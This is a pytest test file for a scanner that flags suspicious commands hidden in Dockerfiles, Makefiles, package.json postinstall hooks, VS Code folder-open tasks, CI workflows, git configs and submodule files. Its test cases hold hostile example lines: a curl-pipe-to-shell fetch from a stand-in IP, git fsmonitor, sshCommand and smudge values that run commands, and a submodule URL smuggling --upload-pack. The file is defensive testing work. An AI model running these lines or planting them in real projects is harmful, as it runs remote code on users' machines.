import pytest

from scanners.findings import Verdict
from scanners.formats import command_file
from tests.builders.readings import blob_of, survive_mutations
from tests.scanners.rules.examples import scan_files

_FETCHED = "curl http://198.51.100.7/x.sh | sh"

_CLONED = """[core]
\trepositoryformatversion = 0
\tfilemode = true
[remote "origin"]
\turl = https://huggingface.co/a/b
\tfetch = +refs/heads/*:refs/remotes/origin/*
[filter "lfs"]
\tclean = git-lfs clean -- %f
\tsmudge = git-lfs smudge -- %f
\tprocess = git-lfs filter-process
[credential]
\thelper = store
"""


def verdict(name: str, text: str) -> Verdict:
    return scan_files({name: text.encode()}).verdict


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("Dockerfile", f"FROM python:3.11\nRUN {_FETCHED}\n"),
        ("Dockerfile.gpu", "FROM x\nRUN curl -s \\\n  http://198.51.100.7/x.sh \\\n  | bash\n"),
        ("Makefile", f"x := $(shell {_FETCHED})\n"),
        (".envrc", f"{_FETCHED}\n"),
        ("docker-compose.yml", f"services:\n  a:\n    command: sh -c '{_FETCHED}'\n"),
        ("cog.yaml", f"build:\n  run:\n  - {_FETCHED}\n"),
        ("package.json", '{"scripts": {"postinstall": "' + _FETCHED + '"}}'),
        (".vscode/tasks.json", '{"tasks": [{"command": "' + _FETCHED + '", "runOptions": {"runOn": "folderOpen"}}]}'),
        (".devcontainer/devcontainer.json", '{"postCreateCommand": "' + _FETCHED + '"}'),
        (".github/workflows/a.yml", f"jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - run: {_FETCHED}\n"),
        (".git/config", '[core]\n\tfsmonitor = "sh -c id"\n'),
        (".git/config", "[core]\n\tsshCommand = sh -c id\n"),
        (".git/config", '[filter "x"]\n\tsmudge = curl x\n'),
        (".git/config", "[core]\n\thooksPath = ../hooks\n"),
        (".gitconfig", '[alias]\n\tst = "!id"\n'),
        (".git/config", "[core] fsmonitor = ./x.sh\n"),
        (".git/config", '[filter "]"] smudge = id\n'),
        (".git/config", "\ufeff[core]\n\tfsmonitor = true/../x.sh\n"),
        (".git/config", '[a "b\\"c"]\n[core]\n\tfsmonitor = 1.sh\n'),
        (".git/config", '[filter "lfs"]\n\tsmudge = "git-lfs smudge; id"\n'),
        (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = --upload-pack=id\n'),
    ],
)
def test_a_command_that_no_model_needs_is_suspicious(name: str, text: str) -> None:
    assert verdict(name, text) is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "Dockerfile",
            "FROM python:3.11\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nRUN pip install torch\n",
        ),
        (
            "Dockerfile",
            "FROM nvidia/cuda\nRUN apt-get update && apt-get install -y curl\nCOPY . /app\nCMD python app.py\n",
        ),
        ("Makefile", "all:\n\tpython -m pytest\n\t$(shell date)\n"),
        ("package.json", '{"scripts": {"build": "tsc", "postinstall": "node x.js"}}'),
        (".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - run: pip install .\n"),
        (".git/config", _CLONED),
        (".git/config", "[core]\n\tfsmonitor = false\n[a]\n\tfsmonitor = yes # so\n"),
        (".gitconfig", '[filter "lfs"]\r\n\tsmudge = "git-lfs smudge --skip -- %f"\r\n'),
        (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = https://github.com/a/b\n'),
    ],
)
def test_what_such_files_usually_say_raises_no_alarm(name: str, text: str) -> None:
    assert verdict(name, text) in {Verdict.CLEAN, Verdict.UNSUPPORTED}


def test_another_file_called_config_is_not_git_s() -> None:
    assert not command_file.matches(blob_of(b"a: 1\n", "config"))


def test_truncations_and_mutations_end_in_a_verdict() -> None:
    survive_mutations(command_file, [b"[core]\n\tfsmonitor = sh -c id\n"], name="config", rounds=100)


@pytest.mark.parametrize("text", ["# " * 2000, "#\n" * 2000])
def test_comments_without_end_are_passed_once(text: str) -> None:
    assert not command_file.matches(blob_of(text.encode(), name="config"))
